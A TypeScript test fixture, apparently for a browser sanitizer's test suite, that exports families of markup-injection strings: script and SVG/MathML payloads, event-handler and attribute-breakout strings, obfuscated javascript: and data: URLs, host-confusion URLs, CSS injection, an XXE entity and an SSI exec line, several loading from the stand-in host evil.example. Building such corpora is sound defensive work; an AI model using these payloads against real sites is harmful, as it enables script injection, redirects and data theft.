/** What the canary of a browser test is told when a member is run. */
const RUN = 'globalThis.__ran=1';
const FOREIGN = 'https://evil.example';

const HANDLERS = [
  ...['load', 'error', 'click', 'focus', 'blur', 'mouseover', 'pointerenter', 'animationstart'],
  ...['transitionend', 'toggle', 'beforetoggle', 'input', 'scroll', 'begin', 'pageshow', 'wheel'],
];
const QUOTES = ['"', "'", '`', ' ', '&quot;', '&#39;', '\\"', '%22'];

/** Elements that run, fetch, style or change a page by being there. */
const ELEMENTS: readonly string[] = [
  ...[`<script>${RUN}</script>`, `<ScRiPt>${RUN}</sCrIpT>`, `<script src=//evil.example/a.js>`],
  ...[`<script type=module>${RUN}</script>`, `<script/x>${RUN}</script >`, `<<script>${RUN}//<`],
  ...[`<scr<script>ipt>${RUN}</script>`, `<script\u0000>${RUN}</script>`, `<script\n>${RUN}//`],
  ...[`<svg><script>${RUN}</script></svg>`, `<svg><script href=data:,${RUN} />`],
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${RUN}>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>">`,
  `<math><maction actiontype=statusline xlink:href=javascript:${RUN}>x`,
  `<math><mtext><table><mglyph><style><img src onerror=${RUN}>`,
  `<math href="javascript:${RUN}">x</math>`,
  ...[`<iframe src=javascript:${RUN}>`, `<iframe srcdoc="<img src onerror=${RUN}>">`],
  ...[`<iframe src=${FOREIGN}>`, `<frameset onload=${RUN}>`, `<object data=javascript:${RUN}>`],
  ...[`<embed src=javascript:${RUN}>`, `<applet code=x>`, `<portal src=${FOREIGN}>`],
  ...[`<link rel=stylesheet href=${FOREIGN}/a.css>`, `<link rel=prefetch href=${FOREIGN}>`],
  ...[`<style>@import '${FOREIGN}/a.css'</style>`, `<style>*{display:none}</style>`],
  ...[`<base href=${FOREIGN}/>`, `<meta http-equiv=refresh content=0;url=${FOREIGN}>`],
  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  ...[`<form action=${FOREIGN}><button>Go`, `<button formaction=javascript:${RUN}>x`],
  ...[`<input autofocus onfocus=${RUN}>`, `<details open ontoggle=${RUN}>`, `<isindex x>`],
  ...[`<video><source onerror=${RUN}>`, `<audio src onerror=${RUN}>`, `<marquee onstart=${RUN}>`],
  ...[`<template><script>${RUN}</script></template>`, `<noscript><p title="</noscript><img src`],
  ...[`<textarea></textarea><img src onerror=${RUN}>`, `<title></title><img src onerror=${RUN}>`],
  ...[`<xmp></xmp><img src onerror=${RUN}>`, `<plaintext>`, `<select><style></select><img src>`],
  ...[`<!--><img src onerror=${RUN}>-->`, `<![CDATA[><img src onerror=${RUN}>]]>`, `<?xml ?>`],
  ...[`<!--#exec cmd="ls"-->`, `<!DOCTYPE a [<!ENTITY b SYSTEM "https://evil.example/b">]><a>&b;`],
  ...[`<x-y onclick=${RUN}>`, `<slot name=x>`, `<dialog open>`, `<p popover>`, `<a name=body>`],
  ...[`<img name=forms><img name=location>`, `<form id=document><input name=cookie>`],
  ...[`&lt;script&gt;${RUN}&lt;/script&gt;`, `&#60;script&#62;`, `&#x3c;script>`, `\\u003cscript>`],
  ...[`\\x3cscript>`, `%3Cscript%3E${RUN}%3C/script%3E`, `＜script＞${RUN}`, `+ADw-script+AD4-`],
  ...[`</script><img src onerror=${RUN}>`, `</style><img src onerror=${RUN}>`, `</title></head>`],
  `{"dangerouslySetInnerHTML":{"__html":"<img src onerror=${RUN}>"}}`,
];

/** A handler on an element, with and without what closes an attribute before it. */
const ON_HANDLERS: readonly string[] = HANDLERS.flatMap((name) => [
  `<img src=x on${name}=${RUN}>`,
  `<svg/on${name}=${RUN}//`,
  `" on${name}="${RUN}" x="`,
]);

const BREAKOUTS: readonly string[] = QUOTES.flatMap((quote) => [
  `${quote}><img src=x onerror=${RUN}>`,
  `${quote} autofocus onfocus=${RUN} x=${quote}`,
  `${quote} style=position:fixed;inset:0 x=${quote}`,
  `${quote};${RUN};${quote}`,
  `${quote}+${RUN}+${quote}`,
]);

const SCHEMES = ['javascript', 'vbscript', 'livescript', 'JaVaScRiPt', 'jav&#x61;script'];
const BLANKS = ['', '\t', '\n', '\r', '\u0000', '\u0001', ' ', '\u00a0', '\u200b', '%0a', '&Tab;'];

/** Schemes that run or carry a page, with what a browser strips before it looks. */
const URLS: readonly string[] = [
  ...SCHEMES.flatMap((scheme) => [
    ...BLANKS.map((blank) => `${blank}${scheme}:${RUN}`),
    `${scheme}://%0a${RUN}`,
  ]),
  ...BLANKS.filter((blank) => blank !== '').map((blank) => `java${blank}script:${RUN}`),
  ...[`data:text/html,<script>${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD4=`],
  ...[`data:image/svg+xml,<svg onload=${RUN}>`, `data:application/javascript,${RUN}`, 'data:,'],
  ...['blob:https://evil.example/1', 'filesystem:https://evil.example/a', 'file://evil.example/a'],
  ...[
    'view-source:https://evil.example',
    'about:srcdoc',
    'intent://x#Intent;end',
    'ms-word:ofe|u|x',
  ],
  ...[
    '//evil.example',
    '/\\evil.example',
    '\\\\evil.example',
    'https:evil.example',
    '///evil.example',
  ],
  ...['https://mooring.example@evil.example', 'https://evil.example\\@mooring.example'],
  ...[
    'https://mooring.example.evil.example',
    'https://xn--80ak6aa92e.com',
    'https://ｅｖｉｌ.example',
  ],
  ...[
    'https://[::1]',
    'https://0x7f.1',
    'https://2130706433',
    'https://evil。example',
    'https://%65vil',
  ],
];

const CSS: readonly string[] = [
  ...['red;}body{display:none', 'red}*{color:red', '#fff;background:url(//evil.example/a)'],
  ...[
    'url(https://evil.example/a.png)',
    'url(javascript:globalThis.__ran=1)',
    'image-set("//evil.example/a")',
  ],
  ...[
    'expression(globalThis.__ran=1)',
    'var(--x,url(//evil.example))',
    'env(x)',
    'attr(data-x url)',
  ],
  ...[
    '@import "//evil.example/a.css";',
    '\\72 ed',
    're\\64',
    '/*',
    '*/}',
    '<!--',
    '-->',
    'behavior:url(a)',
  ],
  ...[
    '-moz-binding:url(//evil.example/a#b)',
    'calc(1e999px)',
    'rgb(0 0 0 / 0)',
    'inherit',
    'currentcolor',
  ],
  ...[
    '#ffffff;position:fixed',
    '#fff/**/f',
    'color-mix(in srgb,red,url(a))',
    'light-dark(red,blue)',
  ],
  ...[
    'paint(evil)',
    'src("//evil.example")',
    'cross-fade(url(a),url(b))',
    'element(#app)',
    '!important',
  ],
];

/** Strings that markup, links or styles would run or load. */
export const MARKUP_FAMILIES = {
  elements: ELEMENTS,
  handlers: ON_HANDLERS,
  breakouts: BREAKOUTS,
  urls: URLS,
  css: CSS,
} as const;
